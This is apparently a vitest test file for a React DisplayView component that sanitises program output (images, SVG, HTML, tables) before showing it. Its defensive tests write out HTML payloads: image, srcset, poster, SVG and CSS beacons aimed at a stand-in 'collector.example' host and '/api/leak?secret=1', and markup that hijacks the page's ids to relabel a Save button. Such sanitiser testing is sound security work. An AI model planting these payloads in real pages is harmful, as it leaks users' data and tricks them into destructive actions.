import type { Display } from "@mecha/protocol";
import { render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it } from "vitest";
import { CodeRunner } from "../codeRunner/CodeRunner";
import { MechaProvider } from "../MechaProvider";
import { dataFrame, FORBIDDEN_TAGS, hostile, hostileSvg, PNG_BASE64, plot } from "../test/displays";
import { createFakeClient } from "../test/fakeClient";
import { DisplayView } from "./DisplayView";

/** The sanitised HTML of a display, once DOMPurify (a lazy chunk) has loaded. */
async function sanitised(container: HTMLElement) {
  await waitFor(() =>
    expect(container.querySelector(".mecha-display-html[data-state=ready]")).not.toBeNull(),
  );
  return container.querySelector(".mecha-display-html") as HTMLElement;
}

describe("<DisplayView>", () => {
  it("shows a PNG inline, with text/plain as its alt text and the figure's size", () => {
    render(<DisplayView display={plot} />);
    const image = screen.getByRole("img", { name: "<Figure size 640x480 with 1 Axes>" });
    expect(image).toHaveAttribute("src", `data:image/png;base64,${PNG_BASE64}`);
    expect(image).toHaveAttribute("width", "640");
    // Scales down to the width it is given, also without the stylesheet.
    expect(image.style.maxWidth).toBe("100%");
    expect(image.style.height).toBe("auto");
  });

  it("shows SVG as an image, never as markup in the page", () => {
    const { container } = render(<DisplayView display={hostileSvg} />);
    const image = screen.getByRole("img", { name: "<Hostile SVG>" });
    expect(image.getAttribute("src")).toMatch(/^data:image\/svg\+xml;charset=utf-8,%3Csvg/);
    expect(container.querySelector("svg, script")).toBeNull();
  });

  it("shows a DataFrame's text until the sanitiser loads, then its table", async () => {
    const { container } = render(<DisplayView display={dataFrame} />);
    expect(container).toHaveTextContent("city sales");
    const html = await sanitised(container);
    expect(screen.getByRole("table")).toHaveTextContent("Oslo120");
    expect([...html.querySelectorAll("thead th")].map((cell) => cell.textContent)).toEqual([
      "",
      "city",
      "sales",
    ]);
    // Its <style> would restyle the page: gone, with its text.
    expect(html.querySelector("style")).toBeNull();
    expect(html).not.toHaveTextContent("vertical-align");
  });

  it("removes from hostile HTML everything that could run, load, post or restyle", async () => {
    const { container } = render(<DisplayView display={hostile} />);
    const html = await sanitised(container);
    for (const tag of FORBIDDEN_TAGS) expect(html.querySelector(tag)).toBeNull();
    for (const element of html.querySelectorAll("*")) {
      for (const attribute of element.attributes) {
        expect(attribute.name).not.toMatch(/^on/);
        expect(attribute.value).not.toMatch(/javascript:/i);
      }
    }
    expect(html.querySelector("#user-content-js-link")).not.toHaveAttribute("href");
    const docs = screen.getByRole("link", { name: "the docs" });
    expect(docs).toHaveAttribute("href", "https://example.org/docs");
    expect(docs).toHaveAttribute("target", "_blank");
    expect(docs).toHaveAttribute("rel", "noopener noreferrer");
    // What is harmless stays: the table, and the overlay, which its box contains.
    expect(screen.getByRole("cell", { name: "kept" })).toBeInTheDocument();
    expect(html.querySelector("#user-content-overlay")).not.toBeNull();
    expect(html.style.position).toBe("relative");
    expect(html.style.overflow).toBe("auto");
    expect((window as { __mechaPwned?: string }).__mechaPwned).toBeUndefined();
  });

  it("takes over none of the page's ids, names or keyboard order", async () => {
    const program: Display = {
      data: {
        "text/plain": "<Impostor>",
        "text/html":
          '<span id="save-label">Delete everything</span><a id="top" name="top" href="https://example.org/" tabindex="1">first</a><p tabindex="0">focusable</p>' +
          // It points at the page's elements: to rename the page's "Save" and pull it into its
          // own part; and at its own, which still works.
          '<p id="claims" aria-labelledby="page-save" aria-owns="page-save">claims</p>' +
          '<span id="own-label">Own label</span><p role="note" aria-labelledby="own-label">x</p>' +
          '<a href="#top">back to top</a>',
      },
    };
    const { container } = render(
      <>
        <DisplayView display={program} />
        <button type="button" aria-labelledby="save-label">
          ?
        </button>
        <span id="save-label">Save</span>
        <span id="page-save">Page text</span>
      </>,
    );
    const html = await sanitised(container);
    // The host's button keeps its own name, and its id still finds its own element.
    expect(screen.getByRole("button", { name: "Save" })).toBeInTheDocument();
    expect(document.getElementById("save-label")).toHaveTextContent("Save");
    expect(html.querySelector("[id='top'], [name='top']")).toBeNull();
    // The program's link is reached in the page's order, not before everything else.
    const link = screen.getByRole("link", { name: "first" });
    expect(link.tabIndex).toBe(0);
    expect(html.querySelector("[tabindex]")).toBeNull();
    // Its references name its own elements only, which still name them.
    const claims = html.querySelector("#user-content-claims")!;
    expect(claims.getAttribute("aria-labelledby")).toBe("user-content-page-save");
    expect(claims.getAttribute("aria-owns")).toBe("user-content-page-save");
    expect(screen.getByRole("note", { name: "Own label" })).toBeInTheDocument();
    expect(screen.getByRole("link", { name: "back to top" })).toHaveAttribute(
      "href",
      "#user-content-top",
    );
  });

  it("has the browser fetch nothing by itself: only inline images and styles are kept", async () => {
    // A program with no network could otherwise send what it read out through the page.
    const inline = `data:image/png;base64,${PNG_BASE64}`;
    const program: Display = {
      data: {
        "text/plain": "<Beacons>",
        "text/html": [
          '<img id="remote" src="https://collector.example/?secret=1" alt="remote">',
          '<img id="relative" src="/api/leak?secret=1" alt="relative">',
          `<img id="inline" src="${inline}" alt="inline">`,
          `<img id="set" srcset="${inline} 1x, https://collector.example/2x.png 2x" alt="set">`,
          '<video id="video" poster="https://collector.example/poster.png"></video>',
          '<svg><image id="svg-image" href="https://collector.example/i.png"></image></svg>',
          '<div id="styled" style="color: red; background: url(https://collector.example/bg)">a</div>',
          `<div id="inline-style" style="background-image: url('${inline}')">b</div>`,
          '<a id="link" href="https://example.org/read-more">read more</a>',
        ].join(""),
      },
    };
    const { container } = render(<DisplayView display={program} />);
    const html = await sanitised(container);
    const find = (id: string) => html.querySelector(`#user-content-${id}`);
    expect(find("remote")).not.toHaveAttribute("src");
    expect(find("relative")).not.toHaveAttribute("src");
    expect(find("inline")).toHaveAttribute("src", inline);
    expect(find("set")).not.toHaveAttribute("srcset");
    expect(find("video")).not.toHaveAttribute("poster");
    expect(find("svg-image")).not.toHaveAttribute("href");
    expect(find("styled")).not.toHaveAttribute("style");
    expect(find("inline-style")?.getAttribute("style")).toContain(inline);
    // A link still waits for a click, and opens in a tab of its own.
    expect(find("link")).toHaveAttribute("href", "https://example.org/read-more");
    expect(html.innerHTML).not.toContain("collector.example");
  });

  it("shows Markdown and JSON as text, and text/plain for a type it does not know", () => {
    render(
      <>
        <DisplayView display={{ data: { "text/plain": "md", "text/markdown": "# Title" } }} />
        <DisplayView display={{ data: { "text/plain": "js", "application/json": '{"a":1}' } }} />
        <DisplayView
          display={{ data: { "text/plain": "<Widget>", "application/vnd.widget+json": "{}" } }}
        />
      </>,
    );
    expect(screen.getByText("# Title")).toBeInTheDocument();
    expect(screen.getByText(/"a": 1/)).toBeInTheDocument();
    expect(screen.getByText("<Widget>").closest("[data-mime]")).toHaveAttribute(
      "data-mime",
      "text/plain",
    );
  });
});

describe("displays in a CodeRunner's output", () => {
  it("come in program order with the text around them", async () => {
    const client = createFakeClient({
      script: async (run) => {
        run.stdout("before the plot\n");
        run.display(plot);
        run.stdout("between\n");
        run.display(dataFrame);
        run.stderr("after, on stderr\n");
      },
    });
    render(
      <MechaProvider client={client} healthChecks={false}>
        <CodeRunner defaultCode="plt.show()" />
      </MechaProvider>,
    );
    await userEvent.setup().click(screen.getByRole("button", { name: "Run" }));
    const log = screen.getByRole("log", { name: "Program output" });
    await waitFor(() => expect(log.querySelectorAll("[data-stream]")).toHaveLength(5));
    await sanitised(log);
    const rows = [...log.querySelectorAll("[data-stream]")].map((row) => [
      row.getAttribute("data-stream"),
      row.querySelector("[data-mime]")?.getAttribute("data-mime") ?? row.textContent,
    ]);
    expect(rows).toEqual([
      ["stdout", "before the plot"],
      ["display", "image/png"],
      ["stdout", "between"],
      ["display", "text/html"],
      ["stderr", "after, on stderr"],
    ]);
  });
});
